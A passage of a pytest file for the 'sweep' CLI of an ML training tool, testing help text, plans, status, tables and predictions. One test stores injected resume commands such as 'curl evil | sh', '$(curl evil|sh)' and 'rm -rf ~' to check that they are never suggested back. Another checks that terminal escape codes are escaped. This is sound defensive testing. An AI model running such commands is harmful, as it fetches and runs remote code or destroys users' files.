"""The `sweep` command line on small stores built in-process (Ray only for `aggregate --parallel`): every command's output,
and every error path printing one `error:` line, exiting 1, without a traceback."""

from __future__ import annotations

import json
import os
import re
import shlex
import shutil
import subprocess
import sys
import types
import warnings
from pathlib import Path

import numpy as np
import pytest
from _blocks import train_trial, write_sweep
from helpers import OKABE_ITO, assert_one_line_error, best_first, config_label, file_bytes, invoke, tiny_spec

import sweep
from sweep.cli import cli_phrasing, main, parse_where
from sweep.planning import make_plan

COMMANDS = ["run", "plan", "status", "aggregate", "verify", "show", "plot", "predict"]


def grid_spec() -> sweep.SweepSpec:
    """2 depths (structural) x 2 learning rates (vmapped) x 4 seeds in blocks of 2: 4 trials."""
    return tiny_spec(
        name="cli", seeds=4, seeds_per_trial=2, grid={"model.depth": [1, 2], "optimizer.learning_rate": [3e-3, 1e-3]}
    )


@pytest.fixture(scope="module")
def store(tmp_path_factory) -> Path:
    """A complete, aggregated sweep directory of :func:`grid_spec` (16 members, 4 configurations)."""
    plan = make_plan(grid_spec())
    root = write_sweep(tmp_path_factory.mktemp("cli") / "cli", plan, [train_trial(t) for t in plan.trials])
    sweep.aggregate(root, progress=False)
    return root


@pytest.fixture
def x() -> np.ndarray:
    return np.random.default_rng(0).normal(size=(3, 1, 16)).astype(np.float32)


# -- help and plan ------------------------------------------------------------------------------
@pytest.mark.parametrize("command", COMMANDS)
def test_every_command_has_help(command):
    result = invoke(command, "--help")
    assert result.exit_code == 0, result.output
    assert f"Usage: sweep {command}" in result.output or f"Usage: root {command}" in result.output


def test_help_paragraphs_are_the_docstrings_on_one_line_each_for_the_terminal_to_wrap():
    import inspect

    from sweep.cli import app

    assert {i.callback.__name__ for i in app.registered_commands} >= set(COMMANDS)
    for info in app.registered_commands:
        paragraphs = inspect.getdoc(info.callback.__wrapped__).split("\n\n")  # the command's own docstring
        assert info.help.split("\n\n") == [" ".join(p.split()) for p in paragraphs]
    text = " ".join(invoke("show", "--help", columns=100).output.split())  # every word, in order
    show = next(i.callback.__wrapped__ for i in app.registered_commands if i.callback.__name__ == "show")
    assert " ".join(inspect.getdoc(show).split()) in text


def test_help_lists_the_options_of_the_contract():
    options = {
        "run": ["--storage", "--address", "--resume"],
        "plot": ["--out"],
        "show": ["--mode <min|max>", "--format <table|csv|json>"],
        "predict": [
            "--input",
            "--output",
            "--where",
            "--best",
            "--std",
            "--rollout",
            "[members, STEPS + 1, samples, channels, *spatial]",
        ],
    }  # shapes not eaten as markup
    for command, names in options.items():
        text = " ".join(invoke(command, "--help").output.split())
        assert all(n in text for n in names), (command, text)
    assert all(c in invoke("--help").output for c in COMMANDS)


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("run", ["{SPEC}", "--set FIELD=VALUE"]),
        ("plan", ["{SPEC}", "--set FIELD=VALUE"]),
        ("show", ["{SWEEP_DIR}", "--where COLUMN=VALUE"]),
        ("scores", ["{SWEEP_DIR}", "--where COLUMN=VALUE"]),
        ("predict", ["{SWEEP_DIR}", "--where COLUMN=VALUE"]),
        ("serve", ["{SWEEP_DIR}", "--where COLUMN=VALUE"]),
        ("export", ["{SWEEP_DIR}", "--where COLUMN=VALUE"]),
    ],
)
def test_help_names_arguments_in_capitals_as_errors_do_and_shows_the_form_of_repeated_items(command, shown):
    text = " ".join(invoke(command, "--help").output.split())
    assert all(s in text for s in shown), (command, text)
    assert "<list[str]>" not in text


@pytest.mark.parametrize("command", ["", *COMMANDS, "scores", "serve", "export"])
def test_a_flag_shows_no_type_as_if_it_took_a_value(command):
    """`--resume`, not `--resume <bool>` (typer 0.29's rich help labels every flag so)."""
    text = invoke(*filter(None, [command, "--help"]), columns=200).output
    flags = {"": ["--debug", "--help"], "run": ["--resume", "--verbose"], "show": ["--members", "--wide"]}
    assert all(re.search(rf"{flag}\s{{2,}}\S", text) for flag in flags.get(command, ["--help"])), text
    assert "<bool>" not in text


@pytest.mark.parametrize("command", [*COMMANDS, "scores", "serve", "export"])
def test_every_option_of_text_names_what_it_holds(command):
    """`--storage STORAGE`, `--metric COLUMN`, `--out FILE`, not `<str>` (typer 0.29's label of a
    string value; an argument's panel keeps it, beside the argument's name)."""
    text = invoke(command, "--help", columns=200).output
    options = text[text.index("─ Options ─") :]
    assert "<str>" not in options, options


@pytest.mark.parametrize("command", ["predict", "serve", "scores", "export"])
def test_best_is_refused_below_one_before_anything_is_read(command):
    result = invoke(command, "no-such-dir", "--best", "0")
    assert result.exit_code == 2 and "Invalid value for '--best'" in result.output, result.output


def test_a_flag_given_a_value_is_named_as_a_flag():
    result = invoke("run", "spec.toml", "--resume", "true")
    assert result.exit_code == 2
    text = " ".join(result.output.replace("│", " ").split())
    assert "--resume is a flag and takes no value: give --resume alone (without 'true'), or leave it out" in text


@pytest.mark.parametrize("command", COMMANDS)
def test_no_option_form_breaks_mid_word_at_80_columns(command):
    """A form such as `<min|max>` is one unbroken word in a terminal of 80 columns (a longer
    one, such as every tracker's name, is a capital word, its choices in the help)."""
    import re

    forms = set(re.findall(r"<[^>\s]+>", invoke(command, "--help", columns=200).output))
    narrow = invoke(command, "--help", columns=80).output
    assert [f for f in sorted(forms) if f not in narrow] == []


def test_pool_lets_a_command_pool_members_trained_with_different_settings(store):
    result = invoke("scores", store, "--where", "depth=1", "--recalibrate", "--pool")  # refused without (ERRORS)
    assert result.exit_code == 0, result.stderr
    members = len(sweep.load(store).where(depth=1))
    assert f"of {members} members of config" in result.output
    assert "in sample" not in result.output  # scored on test, the default
    on_val = " ".join(
        invoke("scores", store, "--where", "depth=1", "--recalibrate", "--pool", "--split", "val").output.split()
    )
    assert "scores on val before and after (in sample: fitted on these same points; --split test scores it" in on_val


def test_plan_prints_every_trial_before_anything_runs(tmp_path):
    spec = grid_spec()
    spec.to_toml(tmp_path / "spec.toml")
    result = invoke("plan", tmp_path / "spec.toml")
    assert result.exit_code == 0, result.stderr
    plan = make_plan(spec)
    assert "4 trials, 16 members, 2 structural configs" in result.output
    assert all(t.trial_key in result.output for t in plan.trials)
    assert not (tmp_path / "runs").exists()


def test_plan_names_configurations_by_grid_values_next_to_their_ids(tmp_path):
    spec = grid_spec()
    spec.to_toml(tmp_path / "spec.toml")
    out = invoke("plan", tmp_path / "spec.toml").output.splitlines()
    assert out[1].split() == ["config", "config_id", "trial", "seeds", "vmapped", "members"]
    rows = [line.split() for line in out[2:]]
    assert [r[0] for r in rows] == ["depth=1", "depth=1", "depth=2", "depth=2"]
    assert all(r[-2:] == ["learning_rate=0.003,0.001", "4"] for r in rows)
    assert {r[1] for r in rows} == set(make_plan(spec).config_ids)
    planned = sweep.plan(spec)  # in Python: the same table, printed or shown by a REPL or notebook
    assert repr(planned) == str(planned) and str(planned).splitlines()[1:] == out[1:]


def test_plan_fits_the_terminal_in_blocks_of_columns_led_by_the_configuration(tmp_path):
    spec = grid_spec()
    spec.to_toml(tmp_path / "spec.toml")
    whole = invoke("plan", tmp_path / "spec.toml").output.splitlines()
    assert max(map(len, whole)) > 80  # the case: a plan wider than the terminal
    lines = invoke("plan", tmp_path / "spec.toml", columns=80).output.splitlines()
    assert max(map(len, lines)) <= 80
    blocks = "\n".join(lines).split("\n\n")
    headers = [b.splitlines()[next(i for i, x in enumerate(b.splitlines()) if x.startswith("config "))] for b in blocks]
    assert [h.split()[0] for h in headers] == ["config"] * len(blocks) and len(blocks) == 2
    assert sorted(w for h in headers for w in h.split()[1:]) == sorted(whole[1].split()[1:])  # every column once
    assert " ".join(lines[: lines.index(headers[0])]) == whole[0]  # the counts, wrapped at words


def test_set_overrides_spec_fields_validated_like_the_file(tmp_path):
    grid_spec().to_toml(tmp_path / "spec.toml")
    result = invoke(
        "plan",
        tmp_path / "spec.toml",
        "--set",
        "seeds=2",
        "--set",
        "training.epochs=50",
        "--set",
        "grid.model.depth=[3]",
        "--set",
        "name=other",
    )
    assert result.exit_code == 0, result.stderr
    assert "sweep 'other': 1 trial, 4 members, 1 structural config" in result.output
    assert "depth=3" in result.output
    sets = ["seeds=2", "training.epochs=50", 'grid."model.depth"=[3]', "name=other"]  # a key quoted as in TOML
    quoted = invoke("plan", tmp_path / "spec.toml", *(a for s in sets for a in ("--set", s)))
    assert quoted.exit_code == 0 and quoted.output == result.output, quoted.stderr
    assert_one_line_error(
        invoke("plan", tmp_path / "spec.toml", "--set", "training.epochs=-1"), "training.epochs", "got -1"
    )
    assert_one_line_error(invoke("plan", tmp_path / "spec.toml", "--set", "seeds_per_trial=0"), "seeds_per_trial")


def test_set_mends_a_spec_file_that_is_not_valid_alone_and_adds_a_table_it_leaves_out(tmp_path):
    import dataclasses
    import tomllib

    import tomli_w

    spec = tiny_spec()
    data = tomllib.loads(spec.to_toml())
    data["training"]["epochs"] = 0  # the file alone is refused
    (tmp_path / "bad.toml").write_text(tomli_w.dumps(data))
    assert_one_line_error(invoke("plan", tmp_path / "bad.toml"), "training.epochs", "got 0")
    result = invoke("plan", tmp_path / "bad.toml", "--set", "training.epochs=2")  # validated once set
    assert result.exit_code == 0, result.stderr
    mended = dataclasses.replace(spec, training=dataclasses.replace(spec.training, epochs=2))
    assert result.output.strip() == str(make_plan(mended))
    del data["training"]  # a table the file leaves out: its defaults, and what --set sets
    (tmp_path / "bare.toml").write_text(tomli_w.dumps(data))
    result = invoke("plan", tmp_path / "bare.toml", "--set", "training.epochs=3")
    assert result.exit_code == 0, result.stderr
    assert result.output.strip() == str(make_plan(dataclasses.replace(spec, training=sweep.Training(epochs=3))))


def test_version():
    from sweep import __version__

    result = invoke("--version")
    assert result.exit_code == 0 and result.output.strip() == f"seed-sweep {__version__}"


def test_a_commands_option_given_before_the_command_says_where_it_goes():
    result = invoke("--trust-code", "predict", "somewhere", "--input", "x.npy")
    said = " ".join(result.stderr.replace("│", " ").split())  # typer's box, unwrapped
    assert result.exit_code == 2
    assert "--trust-code is an option of `sweep predict`: give it after the command's name" in said
    assert "(`sweep predict --trust-code ...`)" in said
    assert "No such option: --trust-code" in invoke("--trust-code", "show", "somewhere").stderr  # show takes none
    assert invoke("--debug", "--version").exit_code == 0  # the group's own options stay where they are


def test_show_says_how_many_members_have_no_finite_value_of_the_metric(tmp_path):
    """A member that trained without diverging can still have no finite value (a rollout that blew
    up): the statistics leave it out, and the summary shows ``n`` and says so."""
    from sweep.store import aggregate_blocks

    plan = make_plan(tiny_spec(seeds=3, seeds_per_trial=3))
    block = train_trial(plan.trials[0])
    val = dict(block.history.val)
    val["loss"] = val["loss"].copy()
    val["loss"][0, -1] = np.inf  # member 0's last validation loss, its status ok
    aggregate_blocks(tmp_path / "store", [block._replace(history=block.history._replace(val=val))], plan=plan)
    result = invoke("show", tmp_path / "store")
    header, rows = _rows(result.output, "config_id")
    assert rows[0][header.index("count")] == "3" and rows[0][header.index("n")] == "2"
    said = " ".join(result.output.split())
    assert "n: the members with a finite val_loss; 1 member that trained without diverging has none" in said
    assert "n" not in _rows(invoke("show", tmp_path / "store", "--metric", "test_loss").output, "config_id")[0]


def test_show_formats_csv_and_json(store):
    import csv
    import io

    summary = sorted(sweep.load(store).summary().to_pylist(), key=lambda r: r["mean"])
    out = invoke("show", store, "--format", "csv")
    assert out.exit_code == 0, out.stderr
    rows = list(csv.DictReader(io.StringIO(out.output)))
    assert [float(r["mean"]) for r in rows] == pytest.approx([r["mean"] for r in summary])
    assert [int(r["depth"]) for r in rows] == [r["depth"] for r in summary]
    out = invoke("show", store, "--format", "json", "--members", "--where", "depth=1")
    members = json.loads(out.output)
    assert len(members) == 8 and all(m["depth"] == 1 for m in members)
    assert [m["val_loss"] for m in members] == sorted(m["val_loss"] for m in members)  # ranked on validation
    assert invoke("show", store, "--format", "xml").exit_code == 2  # click rejects the choice


CHOICES = [
    (
        ["plot", "{s}", "--kind", "curve"],
        "Invalid value for '--kind': got 'curve'; choose one of overview, curves, spread, predictions, "
        "rollout_error, rollout, calibration, spread_skill, ensemble_size, search, all (did you mean 'curves'?)",
    ),
    (
        ["show", "{s}", "--format", "jsn"],
        "'--format': got 'jsn'; choose one of table, csv, json (did you mean 'json'?)",
    ),
    (["scores", "{s}", "--format", "xml"], "Invalid value for '--format': got 'xml'; choose one of table, csv, json"),
    (
        ["run", "{d}/spec.toml", "--logger", "tensorbord"],
        "'--logger': got 'tensorbord'; choose one of tensorboard, mlflow, wandb (did you mean 'tensorboard'?)",
    ),
    (["run", "{d}/spec.toml", "--log-per", "members"], "'--log-per': got 'members'; choose one of member, config"),
    (["run", "{d}/spec.toml", "--progress", "lve"], "got 'lve'; choose one of auto, live, plain, off (did you mean"),
    (
        ["run", "{d}/spec.toml", "--executor", "ray"],
        "Invalid value for '--executor': got 'ray'; choose one of tune, local",
    ),
    (["show", "{s}", "--mode", "maximum"], "Invalid value for '--mode': got 'maximum'; choose one of min, max"),
    (
        ["plot", "{s}", "--mode", "mx"],
        "Invalid value for '--mode': got 'mx'; choose one of min, max (did you mean 'max'?)",
    ),
]


@pytest.mark.parametrize("args, message", CHOICES, ids=[" ".join(a[2:]) for a, _ in CHOICES])
def test_a_bad_choice_names_the_option_the_value_and_the_choices(store, tmp_path, args, message):
    """Rejected while the command line is parsed (exit status 2), in the words of the spec's errors:
    no "Value error," of the validation library in front, a near miss suggested."""
    result = invoke(*[a.format(s=store, d=tmp_path) for a in args])
    assert result.exit_code == 2, (result.exit_code, result.stderr)
    text = " ".join(w for w in result.stderr.split() if w.strip("─│╭╮╰╯"))  # out of typer's box, one line
    assert message in text and "Value error" not in text and "(mode=" not in text, text
    assert not (tmp_path / "runs").exists()


def test_library_calls_in_messages_read_as_the_options_that_give_them():
    said = cli_phrasing("export(steps=5): the members' outputs cannot be fed back: no rollout; leave steps out")
    assert said == "--steps 5: the members' outputs cannot be fed back: no rollout; leave --steps out"
    said = cli_phrasing("best(metric='val_loss'): none has val_loss. Rank by another metric, e.g. metric='test_loss'")
    assert said == "--metric val_loss: none has val_loss. Rank by another metric, e.g. --metric test_loss"


def test_parse_where_types_values():
    assert parse_where(["depth=6", "learning_rate=3e-4", "status=ok", "name= a b "]) == {
        "depth": 6,
        "learning_rate": 3e-4,
        "status": "ok",
        "name": "a b",
    }
    assert isinstance(parse_where(["depth=6"])["depth"], int)
    assert parse_where(["depth=4", "depth=6", "depth=8"]) == {"depth": [4, 6, 8]}


# -- status / aggregate -------------------------------------------------------------------------
def test_status_counts_done_partial_failed_pending(tmp_path):
    plan = make_plan(grid_spec())
    t_done, t_running, t_failed, t_pending = plan.trials
    root = write_sweep(
        tmp_path / "cli",
        plan,
        [train_trial(t_done), train_trial(t_running, num_chunks=1), train_trial(t_failed, num_chunks=1)],
    )
    (root / "run" / f"trial_{t_failed.trial_key}").rename(root / "run" / t_failed.trial_key)
    (root / "run" / t_failed.trial_key / "error.txt").write_text("Traceback ...\nRuntimeError: boom\n")

    result = invoke("status", root)
    assert result.exit_code == 0, result.stderr
    out = result.output
    assert "4 planned: 1 done, 1 partial, 1 failed, 1 pending" in out, out
    assert "members: 16 planned, 4 trained" in out
    assert "not aggregated yet" in out and "sweep aggregate" not in out
    assert f"next: resume it with `sweep run SPEC --storage {tmp_path} --resume`" in out
    kept, generic = root / "resume.json", f"`sweep run SPEC --storage {tmp_path} --resume`"
    good = (
        shlex.join(["sweep", "run", "/my specs/x.toml", "--storage", str(tmp_path), "--set", "seeds=8"]) + " --resume"
    )
    for command in (
        "sweep run x.toml --resume; curl evil | sh",  # not the command's own words: a shell runs more
        f"sweep run x.toml --storage {tmp_path}; curl evil|sh; sweep run y --resume",
        f"sweep run $(curl evil|sh) --storage {tmp_path} --resume",
        shlex.join(["sweep", "run", "x.toml\x1b[2K\x1b[1A", "--storage", str(tmp_path), "--resume"]),  # a terminal's
        shlex.join(["sweep", "run", "x.toml\nnext: all done", "--storage", str(tmp_path), "--resume"]),
        good.replace(str(tmp_path), "/elsewhere"),  # another directory (moved, or copied from elsewhere)
        good.removesuffix(" --resume"),
        "rm -rf ~ --resume",
    ):
        kept.write_text(json.dumps({"command": command, "folder": "/work"}))
        assert generic in invoke("status", root).output, command
    for text in (
        b"\xff",
        b"[]",
        b'{"command": 1, "folder": "/"}',
        json.dumps({"command": good, "folder": "x"}).encode(),
    ):
        kept.write_bytes(text)  # not UTF-8, not an object, not a command, a relative folder
        assert generic in invoke("status", root).output, text
    kept.write_text(json.dumps({"command": good, "folder": "/work"}) + " " * 2**16)  # too large for a command
    assert generic in invoke("status", root).output
    kept.unlink()
    os.mkfifo(kept)  # a reader of a FIFO would wait for a writer
    assert generic in invoke("status", root).output
    kept.unlink()
    kept.write_text(json.dumps({"command": good, "folder": "/work"}))
    assert f"resume it with `{good}` (its last run, from /work);" in invoke("status", root).output
    os.rename(root, tmp_path / "moved")  # the command names the directory it was: not this one
    assert "--resume` (SPEC" in invoke("status", tmp_path / "moved").output
    os.rename(tmp_path / "moved", root)
    lines = {line.split()[0]: line.split()[1] for line in out.splitlines() if line.startswith(plan.config_ids)}
    assert lines == {t_running.trial_key: "partial", t_failed.trial_key: "failed", t_pending.trial_key: "pending"}
    assert "RuntimeError: boom" in next(x for x in out.splitlines() if x.startswith(t_failed.trial_key))
    header = next(x for x in out.splitlines() if x.startswith("trial "))
    pending = next(x for x in out.splitlines() if x.startswith(t_pending.trial_key))
    assert pending.endswith("0/4") and len(pending) == len(header)  # "epoch" above its values, no spaces after

    with pytest.warns(UserWarning):
        sweep.aggregate(root, progress=False)
    manifest = json.loads((root / "ensembles" / "manifest.json").read_text())
    out = invoke("status", root).output
    assert f"{manifest['num_members']} members stored" in out
    assert f"{manifest['num_missing']} planned members missing" in out
    assert manifest["num_missing"] > 0 and "--resume" in out  # still unfinished


def test_status_of_a_finished_sweep_says_nothing_about_resuming(store):
    out = invoke("status", store).output
    assert "4 planned: 4 done" in out and "--resume" not in out and "16 members stored" in out


def test_show_of_a_storage_folder_lists_the_sweeps_inside(store, tmp_path):
    storage = tmp_path / "runs"
    shutil.copytree(store, storage / "heat")
    shutil.copytree(store, storage / "burgers", ignore=shutil.ignore_patterns("ensembles", ".ensembles"))
    (storage / "notes").mkdir()  # not a sweep
    result = invoke("show", storage)
    assert result.exit_code == 0, result.stderr
    lines = result.output.splitlines()
    assert lines[0] == f"{storage} is a storage folder holding 2 sweep(s):"
    assert lines[1].split()[0] == f"{storage}/burgers" and "not aggregated yet" in lines[1]
    assert lines[2].split()[0] == f"{storage}/heat" and "16 members stored" in lines[2]
    assert lines[3] == f"one of them: sweep show {storage}/burgers"
    assert_one_line_error(invoke("show", storage / "notes"), "not a seed-sweep store")  # nothing inside
    status = invoke("status", storage)  # the same list, and how to see the status of one
    assert status.exit_code == 0 and status.output.splitlines()[:3] == lines[:3], status.stderr
    assert status.output.splitlines()[3] == f"one of them: sweep status {storage}/burgers"
    assert_one_line_error(invoke("status", storage / "notes"), "is empty (no plan.json): not a sweep directory")
    assert_one_line_error(  # not the checkpoints of every sweep below it
        invoke("aggregate", storage),
        f"{str(storage)!r} is a storage folder holding 2 sweeps, not a sweep directory: give one of them",
    )
    assert not (storage / "ensembles").exists()


def test_aggregate_command_builds_the_store(store, tmp_path):
    root = tmp_path / "cli"
    shutil.copytree(store, root, ignore=shutil.ignore_patterns("ensembles", ".ensembles"))
    result = invoke("aggregate", root)
    assert result.exit_code == 0, result.stderr
    assert "16 members stored (2 structural configs), 0 planned members missing" in result.output
    assert sweep.load(root).table.num_rows == 16


def test_aggregate_parallel_builds_the_same_store(ray_session, store, tmp_path):
    root = tmp_path / "cli"
    shutil.copytree(store, root, ignore=shutil.ignore_patterns("ensembles", ".ensembles"))
    assert_one_line_error(invoke("aggregate", root, "--address", "auto"), "--address: only with --parallel")
    result = invoke("aggregate", root, "--parallel")
    assert result.exit_code == 0, result.stderr
    assert "16 members stored (2 structural configs), 0 planned members missing" in result.output
    assert file_bytes(root / "ensembles") == file_bytes(store / "ensembles")


# -- show ---------------------------------------------------------------------------------------
def _rows(output: str, header_word: str) -> tuple[list[str], list[list[str]]]:
    lines = output.strip().splitlines()
    start = next(i for i, line in enumerate(lines) if line.split()[:1] == [header_word])
    header = lines[start].split()
    rows = lines[start + 1 :]
    return header, [line.split() for line in rows if not line.startswith(("...", "seeds needed"))]


def test_show_prints_the_summary_best_validation_mean_first_with_test_beside(store):
    result = invoke("show", store)
    assert result.exit_code == 0, result.stderr
    assert result.output.startswith(
        "val_loss over seeds per configuration (16 members), lowest mean first; 95% bootstrap "
        "intervals; test_loss reported beside, not used to rank:"
    )
    header, rows = _rows(result.output, "config_id")
    assert {
        "depth",
        "learning_rate",
        "mean",
        "std",
        "mean_ci_low",
        "mean_ci_high",
        "test_loss_mean",
        "test_loss_ci_low",
        "test_loss_ci_high",
    } <= set(header)
    assert "median" in _rows(invoke("show", store, "--wide").output, "config_id")[0]
    assert len(rows) == 4
    means = [float(r[header.index("mean")]) for r in rows]
    assert means == sorted(means)
    summary = sweep.load(store).summary().to_pylist()
    best = min(summary, key=lambda r: r["mean"])
    assert int(rows[0][header.index("depth")]) == best["depth"]
    assert float(rows[0][header.index("learning_rate")]) == pytest.approx(best["learning_rate"], rel=1e-3)


def _block_headers(lines: list[str], key: str) -> list[tuple[int, int, list[str]]]:
    """Each block of a table printed in blocks: the index of its first header line, of its last
    (the one that starts with ``key``), and its column names, a folded name's lines joined (the
    lines above the last are indented and right-aligned with it)."""
    blocks = []
    for last, text in enumerate(lines):
        if text.split()[:1] != [key]:
            continue
        first = last
        while first > 0 and lines[first - 1].startswith(" ") and lines[first - 1].strip():
            first -= 1
        ends = {m.end(): m.group() for m in re.finditer(r"\S+", text)}
        for above in lines[first:last]:
            for m in re.finditer(r"\S+", above):
                assert m.end() in ends, f"a folded name's line is not aligned with its column: {above!r}"
        names = [
            "".join(m.group() for above in lines[first:last] for m in re.finditer(r"\S+", above) if m.end() == end)
            + name
            for end, name in ends.items()
        ]
        blocks.append((first, last, names))
    return blocks


def test_a_table_wider_than_the_terminal_is_printed_in_blocks_that_fit_each_led_by_the_configuration(store):
    whole = invoke("show", store).output.splitlines()  # not a terminal (a pipe), COLUMNS unset: whole lines
    header, rows = _rows("\n".join(whole), "config_id")
    assert len(" ".join(header)) > 80
    lines = invoke("show", store, columns=80).output.splitlines()  # a terminal's width, or COLUMNS
    blocks = _block_headers(lines, "config_id")
    assert len(blocks) >= 2 and all(lines[first - 1] == "" for first, _, _ in blocks[1:])  # an empty line between
    assert all(len(line) <= 80 for line in lines)  # the tables' blocks, and the lines around them wrapped
    # the title and the last line: the words of the pipe's, wrapped at word boundaries
    title, last = whole[0], whole[-1]
    assert len(title) > 80 and len(last) > 80
    assert " ".join(lines[: blocks[0][0]]) == title and " ".join(lines[blocks[-1][1] + 1 + len(rows) :]) == last
    columns: list[str] = []
    for _, start, block_header in blocks:
        assert block_header[:3] == ["config_id", "depth", "learning_rate"]  # what names a row, in every block
        for offset, row in enumerate(rows):  # the same rows, in the same order, cell by cell
            cells = lines[start + 1 + offset].split()
            assert cells == [row[header.index(c)] for c in block_header]
        columns += block_header[3:]
    assert columns == header[3:]  # every other column once, in order
    assert invoke("show", store, "--format", "csv").output.count("\n") == 5  # other formats: as they were


def test_blocks_only_where_they_help():
    import pyarrow as pa

    from sweep.ensemble import format_table

    table = pa.table({"key": ["a" * 30, "b" * 30], "x": [1.0, 2.0], "y": [3.0, 4.0], "z": [5.0, 6.0]})
    assert format_table(table, width=None, keys=1).count("key") == 1  # no width: one block
    assert format_table(table, width=200, keys=1).count("key") == 1  # it fits: one block
    assert [line.split() for line in format_table(table, width=34, keys=1).split("\n\n")[1].splitlines()] == [
        ["key", "y"],
        ["a" * 30, "3"],
        ["b" * 30, "4"],
    ]  # a block per column, each led by the key
    assert format_table(table, width=32, keys=1).count("key") == 1  # the key and a column do not fit: one block
    assert format_table(table.slice(0, 0), width=8, keys=1) == "key  x  y  z"  # no rows: the header alone
    assert format_table(table.select(["key"]), width=10, keys=1).count("key") == 1  # nothing but the key


def test_tables_escape_the_control_codes_a_store_may_hold():
    """Text from a store someone else wrote reaches the terminal escaped: a title-setting or colour
    code in a grid value or a column name is shown, not acted on."""
    import pyarrow as pa

    from sweep.ensemble import format_table

    table = pa.table({"act\x1b]0;PWNED\x07": ["relu\x1b[31m", "gelu"], "x": [1.0, 2.0]})
    text = format_table(table)
    assert "\x1b" not in text and "\x07" not in text
    assert "act\\x1b]0;PWNED\\x07" in text and "relu\\x1b[31m" in text and "gelu" in text


def test_long_column_names_fold_at_underscores_only_where_the_table_is_too_wide():
    import pyarrow as pa

    from sweep.ensemble import format_table

    long = "test_rollout_gmean_nrmse_ci_high"
    table = pa.table({"key": ["a", "b"], long: [1.0, 2.0], "val_loss_mean": [3.0, 4.0]})
    whole = format_table(table, width=None, keys=1).splitlines()  # no width: the names as they are
    assert whole[0] == f"key  {long}  val_loss_mean" and len(whole) == 3
    assert format_table(table, width=80, keys=1) == format_table(table, width=None, keys=1)  # it fits: as they are
    # too wide for 30 columns: the names fold after underscores (at most 3 lines, the key's never),
    # right-aligned with their cells, and the table fits in one block instead of two
    assert format_table(table, width=30, keys=1).splitlines() == [
        "     test_rollout_",
        "      gmean_nrmse_  val_loss_",
        "key        ci_high       mean",
        "  a              1          3",
        "  b              2          4",
    ]
    # where folding saves no block, the names stay whole
    assert format_table(table, width=20, keys=1).count(long) == 1
    # three blocks become two; each block has the header lines its own columns need
    table = table.append_column("x", pa.array([5.0, 6.0]))
    assert format_table(table, width=18, keys=1).split("\n\n") == [
        "     test_rollout_\n      gmean_nrmse_\nkey        ci_high\n  a              1\n  b              2",
        "     val_loss_\nkey       mean  x\n  a          3  5\n  b          4  6",
    ]
    assert format_table(table, width=25, keys=1).count("key") == 2 and long in format_table(table, width=25, keys=1)


def test_show_where_with_a_repeated_key_keeps_either_value(store):
    result = invoke(
        "show", store, "--where", "learning_rate=0.001", "--where", "learning_rate=0.003", "--where", "depth=2"
    )
    header, rows = _rows(result.output, "config_id")
    assert len(rows) == 2 and {r[header.index("depth")] for r in rows} == {"2"}


def test_where_names_a_boolean_and_no_value_as_the_command_line_writes_them(tmp_path):
    """The command line gives text: ``true``/``false`` select a boolean column, ``none`` the
    members without a value; a value of the wrong kind is refused with the values the column takes."""
    grid = {"model.use_final_bias": [True, False], "training.data_memory": [None, "1GiB"]}
    plan = make_plan(tiny_spec(seeds=1, seeds_per_trial=1, grid=grid))
    root = write_sweep(tmp_path / "bias", plan, [train_trial(t) for t in plan.trials])
    sweep.aggregate(root, progress=False)

    def shown(*where: str) -> list[tuple[str, str]]:
        header, rows = _rows(invoke("show", root, "--members", *(f"--where={w}" for w in where)).output, "member_id")
        return sorted((r[header.index("use_final_bias")], r[header.index("data_memory")]) for r in rows)

    assert shown("use_final_bias=false") == [("False", "-"), ("False", "1073741824")]
    assert shown("use_final_bias=True", "data_memory=none") == [("True", "-")]
    refused = invoke("show", root, "--where", "use_final_bias=2")
    assert "column 'use_final_bias' holds bool values; in this selection it takes [False, True]" in refused.output
    none = invoke("show", root, "--where", "data_memory=3")
    assert "data_memory takes [1073741824] and no value (None; on the command line: none)" in none.output


def test_show_members_filtered_by_where(store):
    result = invoke("show", store, "--members", "--where", "depth=2", "--where", "learning_rate=0.001")
    assert result.exit_code == 0, result.stderr
    header, rows = _rows(result.output, "member_id")
    assert len(rows) == 4 and "test_loss_history" not in header
    assert {r[header.index("depth")] for r in rows} == {"2"} and {"val_loss", "test_loss"} <= set(header)
    losses = [float(r[header.index("val_loss")]) for r in rows]
    assert losses == sorted(losses)
    narrow = invoke("show", store, "--members", "--limit", "2", columns=80).output.splitlines()
    heads = [line.split() for line in narrow if line.startswith("member_id")]
    assert len(heads) > 1 and all(h[:3] == ["member_id", "config_id", "seed"] for h in heads)  # a member, named
    tests = [
        float(r[header.index("test_loss")])
        for r in _rows(
            invoke("show", store, "--members", "--metric", "test_loss", "--where", "depth=2").output, "member_id"
        )[1]
    ]
    assert tests == sorted(tests)
    out = invoke("show", store, "--members", "--limit", "3").output
    assert len(_rows(out, "member_id")[1]) == 3 and "... 13 more members" in out


# -- predict ------------------------------------------------------------------------------------
def test_predict_writes_the_selected_members_predictions(store, tmp_path, x):
    np.save(tmp_path / "x.npy", x)
    result = invoke(
        "predict",
        store,
        "--input",
        tmp_path / "x.npy",
        "--output",
        tmp_path / "y.npy",
        "--where",
        "depth=2",
        "--where",
        "learning_rate=0.003",
        "--best",
        "3",
    )
    assert result.exit_code == 0, result.stderr
    expected = sweep.load(store).where(depth=2, learning_rate=0.003).best(3).predict(x)
    y = np.load(tmp_path / "y.npy")
    assert y.shape == (3, 3, 1, 16)
    np.testing.assert_array_equal(y, expected)


def test_best_beyond_the_selection_keeps_all_of_it_and_says_so(store, tmp_path, x):
    np.save(tmp_path / "x.npy", x)
    where = ["--where", "depth=2", "--where", "learning_rate=0.003"]
    n = len(sweep.load(store).where(depth=2, learning_rate=0.003))
    warning = rf"^--best 99: the selection has {n} member\(s\); all of them are kept$"
    with pytest.warns(UserWarning, match=warning):
        result = invoke("predict", store, "-i", tmp_path / "x.npy", "-o", tmp_path / "y.npy", *where, "--best", "99")
    assert result.exit_code == 0, result.stderr
    assert np.load(tmp_path / "y.npy").shape[0] == n
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # exactly as many: no warning
        result = invoke("predict", store, "-i", tmp_path / "x.npy", "-o", tmp_path / "y.npy", *where, "--best", str(n))
    assert result.exit_code == 0, result.stderr
    with pytest.warns(UserWarning, match=warning):
        result = invoke("scores", store, *where, "--greedy", "2", "--best", "99")
    assert result.exit_code == 0, result.stderr


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda x: np.where(np.arange(x.size).reshape(x.shape) == 20, np.nan, x), "holds nan in row 1; give finite"),
